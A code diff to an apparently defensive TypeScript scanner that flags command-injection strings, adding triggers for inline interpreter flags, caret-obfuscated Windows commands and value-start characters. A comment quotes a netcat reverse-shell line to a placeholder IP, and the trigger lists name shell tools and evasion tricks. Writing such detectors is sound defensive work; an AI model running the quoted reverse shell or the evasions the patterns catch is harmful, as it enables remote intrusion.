@@ -9,14 +9,16 @@ import { BARE, LONE_PROGRAMS, PHP_FUNCTIONS, SUBCOMMANDS, TELLING_PARTS } from '
 import { heaviestPart } from './heaviest-part.ts';
 import type { Scanner, View } from './scanner.ts';
 import { skipSpace, wordEnd } from './text-scan.ts';
-import { START } from './trigger-automaton.ts';
+import { folded, START } from './trigger-automaton.ts';
 
 /** Nothing but a command: `cat /etc/hosts`, `nc -e /bin/sh 203.0.113.5 4444`. */
 const bareWeight = ({ lower, place }: View): number => {
   const trimmed = lower.trim();
   if (place === 'text' && LONE_PROGRAMS.has(trimmed)) return 2;
   const program = programAt(lower, skipSpace(lower, 0));
-  if (program === undefined || place === 'json') return 0;
+  if (program === undefined) return 0;
+  // `python -c '…'`: a program in the argument.
+  if (place === 'json') return /^-(?:c|e|r)\s{1,4}['"]/.test(lower.slice(skipSpace(lower, program.end), program.end + 12)) ? 3 : 0;
   if (program.path) return 3;
   const next = skipSpace(lower, program.end);
   if (next === program.end || next >= lower.length) return 0;
@@ -63,8 +65,7 @@ export const commandScanner: Scanner = {
     ...BATCH_TRIGGERS,
     ...PHP_FUNCTIONS.map((name) => `${name}(`),
     // A variable or a bracket that a value begins with, to be called.
-    `${START}$`,
-    `${START}(`,
+    ...[START, '='].flatMap((before) => [`${before}$`, `${before}(`]),
     ...[
       ';',
       '|',
@@ -191,7 +192,18 @@ export const commandScanner: Scanner = {
     ...[
       'rm -',
       'chmod ',
+      ...TELLING_PARTS.map(([part]) => folded(part)),
+      'ruby -',
+      'node -e',
+      'lua -e',
       'perl -',
+      // `who^ami`
+      'o^',
+      'h^',
+      'i^',
+      'e^',
+      'a^',
+      't^',
       'python -',
       'php -',
       'reg add',
